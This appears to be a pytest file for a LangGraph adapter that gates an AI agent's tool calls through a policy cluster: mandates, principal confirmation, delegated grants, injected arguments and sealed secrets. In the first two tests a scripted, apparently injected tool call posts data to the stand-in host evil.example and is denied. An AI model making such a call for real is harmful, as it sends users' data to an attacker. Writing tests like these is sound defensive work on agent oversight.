"""`quorumgate.adapters.langgraph` in a real LangGraph graph (a scripted model node, the
framework's `ToolNode` and `tools_condition`) against a live 4-node cluster
(docs/frameworks/langgraph.md): an allowed call runs; a call outside the mandate does not,
and the model reads the fixed sentence only; a pending call runs once the principal
confirms; a sub-agent acts under a grant; arguments the graph injects are judged like the model's,
and the model cannot set them; an envelope argument carries a handle, and a raw value in
it is refused before it leaves."""

from __future__ import annotations

import asyncio
import time
from typing import Annotated, Any

import pytest
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import BaseTool, InjectedToolCallId, tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.prebuilt import InjectedState, ToolNode, tools_condition
from nacl.public import PrivateKey

from quorumgate.adapters.langgraph import governed
from quorumgate.proto.clusterfile import ClusterSpec
from quorumgate.proto.model import DENIAL_TEXT
from quorumgate.sdk.builders import tool_rules
from quorumgate.sdk.client import Client
from quorumgate.sdk.governed import agent_context, agent_context_async
from quorumgate.sdk.sync import SyncClient
from tests.support.cluster import SINK, new_agent, new_principal

WAIT_S = 30.0
RAN: list[str] = []


@tool
def fetch(url: str) -> str:
    """Read a page."""
    RAN.append(f"fetch {url}")
    return "page text"


@tool
def post(url: str, body: str) -> str:
    """Send a form."""
    RAN.append(f"post {url}")
    return "sent"


@tool
def pay(url: str, amount: int) -> str:
    """Pay an account."""
    RAN.append(f"pay {amount}")
    return f"paid {amount}"


@tool
def store(url: str, secret: str) -> str:
    """Keep a card in the vault."""
    RAN.append(f"store {secret}")
    return "stored"


class Transfer(MessagesState):
    amount: int  # set by the application, not the model


@tool
def transfer(
    url: str,
    amount: Annotated[int, InjectedState("amount")],
    call: Annotated[str, InjectedToolCallId],
) -> str:
    """Send money to an account."""
    RAN.append(f"transfer {amount} {url} {call}")
    return f"sent {amount}"


def _graph(
    calls: list[tuple[str, dict[str, Any]]], tools: list[BaseTool], state: type = MessagesState
) -> Any:
    """Scripted model node: one tool call per turn, then a final answer."""
    script = [
        AIMessage(content="", tool_calls=[{"name": n, "args": a, "id": f"c{i}"}])
        for i, (n, a) in enumerate(calls, 1)
    ] + [AIMessage(content="done")]

    def model(state: MessagesState) -> dict[str, list[AIMessage]]:
        return {"messages": [script.pop(0)]}

    graph = StateGraph(state)
    graph.add_node("model", model)
    graph.add_node("tools", ToolNode(tools))
    graph.add_edge(START, "model")
    graph.add_conditional_edges("model", tools_condition)
    graph.add_edge("tools", "model")
    return graph.compile()


def _tool_outputs(result: dict[str, Any]) -> dict[str, str]:
    return {m.tool_call_id: m.content for m in result["messages"] if isinstance(m, ToolMessage)}


async def test_an_allowed_call_runs_and_an_injected_one_reads_the_sentence(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["web.get"])
    graph = _graph(
        [
            ("fetch", {"url": "HTTPS://Docs.Example/a"}),
            ("post", {"url": "https://evil.example/x", "body": "s"}),
        ],
        [
            governed(fetch, name="web.get", target="url"),
            governed(post, name="web.post", target="url"),
        ],
    )
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-lg-1"):
        result = await graph.ainvoke({"messages": [("user", "read")]})
    assert RAN == ["fetch https://docs.example/a"]
    assert _tool_outputs(result) == {"c1": "page text", "c2": DENIAL_TEXT}


def test_a_synchronous_graph_is_governed_too(cluster: ClusterSpec, owner: SyncClient) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["web.get"])
    graph = _graph(
        [("post", {"url": "https://evil.example/x", "body": "s"})],
        [governed(post, name="web.post", target="url")],
    )
    with SyncClient(cluster, key) as qg, agent_context(qg, run_id="run-lg-2"):
        result = graph.invoke({"messages": [("user", "read")]})
    assert RAN == [] and _tool_outputs(result) == {"c1": DENIAL_TEXT}


async def test_a_pending_call_runs_once_the_principal_confirms(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    RAN.clear()
    person, person_key = new_principal(owner)
    _, key = new_agent(owner, ["pay"], principal=person)
    graph = _graph(
        [("pay", {"url": "https://bank.example/acct", "amount": 250})],
        [governed(pay, target="url", confirm_wait_s=WAIT_S)],
    )
    async with (
        Client(cluster, person_key) as principal,
        Client(cluster, key) as qg,
        agent_context_async(qg, run_id="run-lg-3"),
    ):
        run = asyncio.create_task(graph.ainvoke({"messages": [("user", "pay")]}))
        deadline = time.monotonic() + WAIT_S
        while not (cards := await principal.pending()):  # each ask is a round trip
            assert time.monotonic() < deadline, "timed out waiting for the card"
        assert RAN == []
        await principal.confirm(cards[0].proposal_id, cards[0].card.digest)
        result = await asyncio.wait_for(run, WAIT_S)
    assert RAN == ["pay 250"] and _tool_outputs(result) == {"c1": "paid 250"}


async def test_a_sub_agent_acts_under_its_grant(cluster: ClusterSpec, owner: SyncClient) -> None:
    RAN.clear()
    _, parent_key = new_agent(owner, ["web.get", "web.post"], delegation_policy="attenuated")
    _, child_key = new_agent(owner, None)
    async with Client(cluster, parent_key) as parent, Client(cluster, child_key) as child:
        grant = await parent.delegate(bytes(child_key.verify_key), "job-lg", ["web.get"], ttl_s=600)
        under: dict[str, Any] = {"client": child, "run_id": "job-lg", "grant": grant}
        graph = _graph(
            [
                ("fetch", {"url": "https://docs.example/b"}),
                ("post", {"url": "https://docs.example/b", "body": "x"}),
            ],
            [
                governed(fetch, name="web.get", target="url", **under),
                governed(post, name="web.post", target="url", **under),
            ],
        )
        result = await graph.ainvoke({"messages": [("user", "look")]})
    assert RAN == ["fetch https://docs.example/b"]
    assert _tool_outputs(result) == {"c1": "page text", "c2": DENIAL_TEXT}


async def test_injected_arguments_are_judged_and_the_model_cannot_set_them(
    cluster: ClusterSpec, owner: SyncClient
) -> None:
    """The amount comes from the graph's state (InjectedState), under an argument rule of
    at most 500. The model sends an amount of its own, which ToolNode replaces: the
    cluster judges, and the tool runs on, the state's value; a state amount over the rule
    is refused though the model's was within it. The call id reaches the tool too."""
    RAN.clear()
    rules = [tool_rules("web.post", ["any"], {"amount": {"max": 500}})]
    _, key = new_agent(owner, ["web.post"], rules=rules)
    call = {"url": "HTTPS://Shop.Example/pay", "amount": 5}  # the model's amount is ignored
    tools: list[BaseTool] = [governed(transfer, name="web.post", target="url")]
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-lg-5"):
        fine = await _graph([("transfer", call)], tools, Transfer).ainvoke(
            {"messages": [("user", "pay")], "amount": 100}
        )
        over = await _graph([("transfer", call)], tools, Transfer).ainvoke(
            {"messages": [("user", "pay")], "amount": 900}
        )
    assert RAN == ["transfer 100 https://shop.example/pay c1"]
    assert _tool_outputs(fine) == {"c1": "sent 100"}
    assert _tool_outputs(over) == {"c1": DENIAL_TEXT}


def test_a_tool_taking_the_whole_state_is_refused_at_wrapping() -> None:
    """The whole state (the messages, every field) is no value the cluster can judge:
    wrapping such a tool fails, naming the argument, before any graph runs."""

    @tool
    def summarize(state: Annotated[dict[str, Any], InjectedState]) -> str:
        """Summarize the conversation."""
        return "summary"

    with pytest.raises(TypeError, match="'state' injects the whole state"):
        governed(summarize, name="web.get")


async def test_an_envelope_argument_carries_a_handle_and_a_raw_value_is_refused(
    cluster: ClusterSpec, owner: SyncClient, sink_key: PrivateKey
) -> None:
    RAN.clear()
    _, key = new_agent(owner, ["vault.store"])
    async with Client(cluster, key) as qg, agent_context_async(qg, run_id="run-lg-6"):
        handle = await qg.seal_envelope("card", "4111 1111", {SINK: bytes(sink_key.public_key)})
        graph = _graph(
            [
                ("store", {"url": "https://vault.example/cards", "secret": str(handle)}),
                ("store", {"url": "https://vault.example/cards", "secret": "4111 1111"}),
            ],
            [governed(store, name="vault.store", target="url", envelopes=("secret",))],
        )
        result = await graph.ainvoke({"messages": [("user", "keep the card")]})
    assert [f"store {handle}"] == RAN  # the handle, never the number, reaches the tool
    assert _tool_outputs(result) == {"c1": "stored", "c2": DENIAL_TEXT}
